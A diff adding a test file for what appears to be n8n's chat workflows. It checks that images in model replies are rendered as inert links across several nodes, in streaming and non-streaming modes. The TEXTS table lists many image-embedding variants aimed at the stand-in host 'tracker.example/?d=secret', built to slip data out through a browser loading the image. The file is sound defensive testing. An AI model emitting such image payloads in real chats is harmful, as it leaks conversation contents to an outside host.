@@ -1,0 +1,118 @@
+import { addChatTrigger, chatTrigger } from '../support/chatTrigger';
+import { modelCallerNode, packageNode, runWorkflow } from '../support/engine';
+import { chunk, reply, stream } from '../faults/answers';
+import { answerWell } from '../faults/acts';
+import { startScriptedServer, type ScriptedServer } from '../support/scriptedServer';
+import { printMatrix } from './printMatrix';
+
+/** A host that is told what a conversation has when a browser draws its image. Nothing opens it here. */
+const AT = 'http://tracker.example/?d=secret';
+const FILE = 'data:image/png;base64,iVBORw0KGgo=';
+
+/** Texts of a model, and what a chat shows in place of them. `$own` is the service. */
+const TEXTS: Readonly<Record<string, readonly [said: string, shown: string]>> = {
+	'an image': [`See ![x](${AT}) there`, `See [x](${AT}) there`],
+	'an image with a title': [`![x](${AT} "a title")`, `[x](${AT} "a title")`],
+	'an image in angle brackets': [`![x](<${AT}>)`, `[x](<${AT}>)`],
+	'an image by reference': [`![x][r]\n\n[r]: ${AT}`, `[x][r]\n\n[r]: ${AT}`],
+	'an image by its name': [`![r]\n\n[r]: ${AT}`, `[r]\n\n[r]: ${AT}`],
+	'an image in a link': [`[![x](${AT})](${AT})`, `[[x](${AT})](${AT})`],
+	'an image in an image': [`![a ![x](${AT}) b](${AT})`, `[a [x](${AT}) b](${AT})`],
+	'nested brackets': [`![a [b] c](${AT})`, `[a [b] c](${AT})`],
+	'many exclamation marks': [`!!!![x](${AT})`, `[x](${AT})`],
+	'no protocol': ['![x](//tracker.example/)', '[x](//tracker.example/)'],
+	backslashes: ['![x](/\\tracker.example/)', '[x](/\\tracker.example/)'],
+	entities: ['![x](http&colon;//tracker.example/)', '[x](http&colon;//tracker.example/)'],
+	'the host of the service as a user': [
+		'![x](http://api.example.com@tracker.example/)',
+		'[x](http://api.example.com@tracker.example/)',
+	],
+	'the host of the service in front': [
+		'![x](http://api.example.com.tracker.example/)',
+		'[x](http://api.example.com.tracker.example/)',
+	],
+	'a path of n8n': ['![x](/rest/logout)', '[x](/rest/logout)'],
+	'an image without an end': [`![x](${AT}`, `[x](${AT}`],
+	'a drawing in its URL': ['![x](data:image/svg+xml,a)', '[x](data:image/svg+xml,a)'],
+	'a tag': [`<img alt="x" src="${AT}">`, `[image](<${AT}>)`],
+	'a tag in capitals': ['!<IMG/SRC=//tracker.example/>', '[image](<//tracker.example/>)'],
+	'another tag': [`<image href="${AT}">`, `&lt;image href="${AT}">`],
+	'a tag without an end': [`<img src="${AT}"`, `[image](<${AT}>)`],
+	'an image of the service': ['![x]($own/a_1.png "a")', '![x]($own/a_1.png "a")'],
+	'an image in the text': [`![x](${FILE})`, `![x](${FILE})`],
+	'no image': ['Hi! [a](b)! 1 < 2 <b>!</b>', 'Hi! [a](b)! 1 < 2 <b>!</b>'],
+};
+
+const ASK = { prompt: '={{ $json.chatInput }}' };
+const NODES = {
+	chatCompletion: ASK,
+	functionCallingAgent: ASK,
+	superAssistant: { appCode: 'app', message: '={{ $json.chatInput }}' },
+	agentVideoChatModel: {},
+};
+const COLUMNS = Object.keys(NODES).flatMap((node) => [
+	{ title: `${node}, streaming`, node: node as keyof typeof NODES, streaming: true },
+	{ title: `${node}, last node`, node: node as keyof typeof NODES, streaming: false },
+]);
+
+let server: ScriptedServer;
+let said: string;
+beforeAll(addChatTrigger);
+beforeEach(async () => {
+	server = await startScriptedServer((response, { body }) => {
+		const isStream = (body as { stream?: boolean }).stream === true;
+		// Each character is an event.
+		const events = Array.from(said, (content) => chunk({ content }));
+		answerWell(response, isStream ? stream(events) : reply(said));
+	});
+});
+afterEach(async () => {
+	await server.stop();
+});
+
+const results = new Map<string, string>();
+afterAll(() => {
+	printMatrix(
+		COLUMNS.map(({ title }) => title),
+		Object.keys(TEXTS).map((name) => [
+			name,
+			COLUMNS.map(({ title }) => ({ result: results.get(`${title} ${name}`) ?? '✗' })),
+		]),
+	);
+});
+
+describe.each(COLUMNS)('$title', ({ title, node, streaming }) => {
+	test.each(Object.entries(TEXTS))('%s', async (name, [text, wanted]) => {
+		const real = (each: string) => each.replace('$own', server.url);
+		said = real(text);
+		const isModel = node === 'agentVideoChatModel';
+		const parameters = { ...NODES[node], ...(!streaming && !isModel && { streaming: 'off' }) };
+		const nodes = [
+			chatTrigger('Chat'),
+			packageNode(isModel ? 'Model' : 'Answer', node, { parameters }),
+			...(isModel ? [modelCallerNode('Answer', { stream: streaming })] : []),
+		];
+		const { run, chunks } = await runWorkflow(nodes, { Chat: [['Answer']] }, 'Chat', {
+			items: [{ chatInput: 'Hi' }],
+			credential: { baseUrl: server.url, apiKey: 'k-secret-key' },
+			streaming,
+			...(isModel && { model: { name: 'Model', of: 'Answer' } }),
+		});
+		const [task] = run.data.resultData.runData['Answer']!;
+		const [item] = task!.data!['main']!.flatMap((items) => items ?? []);
+		const sent = chunks.map(({ content = '' }) => content).join('');
+		expect(streaming ? sent : textOf(item!.json)).toBe(real(wanted));
+		// What was paid for is kept as it was.
+		if (!isModel) expect(item!.json['content'] ?? item!.json['output']).toBe(said);
+		results.set(`${title} ${name}`, wanted === text ? 'drawn' : 'link');
+	});
+});
+
+/** The text of an item: of a node, or of the stub that calls a model. */
+function textOf(json: object): string {
+	const { output, message } = json as {
+		output?: string;
+		message?: { content: { text?: string }[] };
+	};
+	return output ?? message!.content.map(({ text = '' }) => text).join('');
+}
